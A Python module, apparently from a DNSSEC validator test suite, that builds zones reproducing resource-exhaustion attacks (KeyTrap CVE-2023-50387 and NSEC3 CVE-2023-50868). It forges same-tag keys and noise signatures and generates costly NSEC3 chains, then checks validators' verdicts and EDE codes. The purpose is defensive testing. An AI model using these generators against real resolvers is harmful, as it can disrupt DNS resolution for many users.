# Zones that cost a validator much: keys with one tag and signatures by none of them (KeyTrap, CVE-2023-50387), DS
# records without end, NSEC3 records with iterations under names of many labels (CVE-2023-50868). The keys are forged:
# points of the curve and moduli whose private half nobody has, which verify nothing and cost what any other costs.
import os
import struct

import dns.dnssec
import dns.rdataclass
import dns.rdatatype
import dns.rrset
from dns.rdtypes.ANY.DNSKEY import DNSKEY

import breakages
import forge
import keys
import lies
from signers import Nsec3, Plan
from zones import Zone

tag = 4711
how_many = 60  # keys with one tag, signatures of one RRset
names = 40  # in a zone of attack, so that each question is a new one


class Forged:
    """A key without a private half."""

    def __init__(self, algorithm, flags, octets):
        self.algorithm, self.flags = algorithm, flags
        self.rdata = DNSKEY(dns.rdataclass.IN, dns.rdatatype.DNSKEY, flags, 3, algorithm, octets)

    @property
    def is_entry_point(self):
        return bool(self.flags & keys.secure_entry_point)


def with_tag(flags, algorithm, octets, at):
    """The key octets with the two at `at` such that the key tag is `tag` (RFC 4034 appendix B). None: not possible."""
    for change in range(3):
        changed = bytearray(octets)
        changed[at : at + 2] = bytes(2)
        rest = DNSKEY(dns.rdataclass.IN, dns.rdatatype.DNSKEY, flags, 3, algorithm, bytes(changed))
        struct.pack_into("!H", changed, at, (tag - dns.dnssec.key_id(rest) - change) % 65536)
        whole = DNSKEY(dns.rdataclass.IN, dns.rdatatype.DNSKEY, flags, 3, algorithm, bytes(changed))
        if dns.dnssec.key_id(whole) == tag:
            return bytes(changed)
    return None


def _is_point(octets):
    """Whether these are a point of Ed25519 (RFC 8032 5.1.3): otherwise a verifier gives up early."""
    p = 2**255 - 19
    d = -121665 * pow(121666, -1, p) % p
    y = int.from_bytes(octets, "little") & (2**255 - 1)
    square = (y * y - 1) * pow(d * y * y + 1, -1, p) % p
    return y < p and pow(square, (p - 1) // 2, p) in (0, 1)


def ed25519_keys(flags, count=how_many):
    """Forged keys, all with one tag."""
    found = []
    while len(found) < count:
        octets = with_tag(flags, 15, os.urandom(32), 16)
        if octets and _is_point(octets):
            found.append(Forged(15, flags, octets))
    return found


def rsa_keys(flags, bits=3072, count=how_many):
    """Forged keys with one tag, and exponents as long as the modulus: a hundred times the work of an ordinary one."""
    size, found = bits // 8, []
    while len(found) < count:
        exponent = bytes([0x40 | os.urandom(1)[0]]) + os.urandom(size - 2) + b"\x01"
        modulus = b"\xc0" + os.urandom(size - 2) + b"\x01"
        octets = with_tag(flags, 8, b"\x00" + struct.pack("!H", size) + exponent + modulus, 2 * size - 100)
        if octets:
            found.append(Forged(8, flags, octets))
    return found


def _noise(algorithm, bits=3072):
    """A signature that is well formed."""
    if algorithm == 15:
        return os.urandom(63) + b"\x0f"  # S is below the order of the group
    return b"\x00" + os.urandom(bits // 8 - 1)


def noise_signatures(zone, name, kind, algorithm, count=how_many):
    right = forge.signature(zone.rrset(name, kind), zone.zone_signing_key)
    return [
        right.replace(algorithm=algorithm, key_tag=tag, signature=_noise(algorithm)) for _ in range(count)
    ]


def _names(prefix="a"):
    return tuple(f"{prefix}{number} A 198.51.100.9" for number in range(names))


def keytrap(forged):
    """Every name has many signatures under the one tag that many keys have."""

    def edit(zone):
        zone.set_keys(*forged(keys.zsk_flags), *zone.keys)
        algorithm = zone.keys[0].algorithm
        for number in range(names):
            zone.put_signatures(f"a{number}", "A", *noise_signatures(zone, f"a{number}", "A", algorithm))

    return edit


def ds_and_keys(zone):
    """Many entry points with one tag, each with its DS record, and many signatures over the DNSKEY RRset."""
    own = list(zone.keys)
    zone.set_keys(*ed25519_keys(keys.ksk_flags), *own, signed_by=own[:1])
    zone.put_signatures("@", "DNSKEY", *noise_signatures(zone, "@", "DNSKEY", 15))


def ds_of_forged(zone):
    return [dns.dnssec.make_ds(zone.origin, key.rdata, "SHA256").to_text() for key in zone.keys if key.algorithm == 15]


def many_ds(zone):
    """DS records that fit no key, though all have its tag."""
    return [f"{zone.entry_points[0].tag} 13 2 {os.urandom(32).hex()}" for _ in range(200)]


def deep(zone, labels=100):
    """A name with so many labels in a zone."""
    return ".".join(["a"] * labels) + "." + zone


def many_chains(zone):
    """A denial with NSEC3 records of many salts, all signed: each salt is a chain of its own to be hashed for. One of
    them may prove it."""
    records = []
    for _ in range(how_many):
        salt = os.urandom(8)
        label = dns.dnssec.nsec3_hash(zone.origin, salt, 50, 1)
        text = f"1 0 50 {salt.hex()} {'v' * 32} NS SOA RRSIG DNSKEY NSEC3PARAM"
        rrset = dns.rrset.from_text(f"{label}.{zone.origin}", 300, "IN", "NSEC3", text)
        records += [rrset, dns.rrset.from_rdata(rrset.name, 300, forge.signature(rrset, zone.zone_signing_key))]
    return lies.denial(zone, [], "NXDOMAIN", more=records)


# label -> (zone, verdict that is right, EDE codes that fit, questions)
def _attack(label, edit=None, plan=Plan("ldns"), ds=(2,), verdict="bogus", ede=(6,), asked=None):
    zone = Zone(f"{label}.broken.", plan, _names(), edit, ds)
    questions = asked or [(f"a{number}.{zone.name}", "A") for number in range(names)]
    return label, (zone, verdict, set(ede), questions)


def _below(label, count=names, labels=100):
    return [(f"n{number}.{deep(f'{label}.broken.', labels)}", "A") for number in range(count)]


def attacks():
    return dict(
        (
            _attack("keytrap", keytrap(ed25519_keys)),
            _attack("keytrap-rsa", keytrap(rsa_keys)),
            _attack("ds-and-keys", ds_and_keys, ds=ds_of_forged, ede=(6, 9, 10)),
            _attack("many-ds", ds=many_ds, ede=(6, 9)),
            _attack("deep", plan=Plan("ldns", denial=Nsec3(50, "ab" * 8)), verdict="secure or bogus", ede=(6,),
                    asked=_below("deep")),
            _attack("salts", plan=Plan("ldns", denial=Nsec3(50, "ab")), verdict="secure or bogus", ede=(6, 12),
                    asked=[(f"n{number}.salts.broken.", "A") for number in range(names)]),
            _attack("salts-384", plan=Plan("ldns", 14, Nsec3(50, "ab")), verdict="secure or bogus", ede=(6, 12),
                    asked=[(f"n{number}.salts-384.broken.", "A") for number in range(names)]),
            _attack("iterations", plan=Plan("ldns", denial=Nsec3(2500, "ab" * 8)), ede=(27,),
                    asked=_below("iterations")),
            _attack("iterations100", plan=Plan("ldns", denial=Nsec3(100, "ab" * 8)), verdict="insecure", ede=(27,),
                    asked=_below("iterations100")),
            _attack("cuts", ede=(6, 9, 10, 12), asked=_below("cuts", count=8)),
        )
    )  # fmt: skip


def rules(internet):
    for zone in ("salts.broken.", "salts-384.broken."):
        rule = many_chains(internet.signed[zone])
        yield from ((f"n{number}.{zone}", "A", rule) for number in range(names))
    # An unsigned answer under a name with many labels: where might the unsigned delegation be?
    for name, kind in _below("cuts", count=8):
        yield name, kind, lies.forged("@ 300 A 203.0.113.66")


tld = breakages.tld
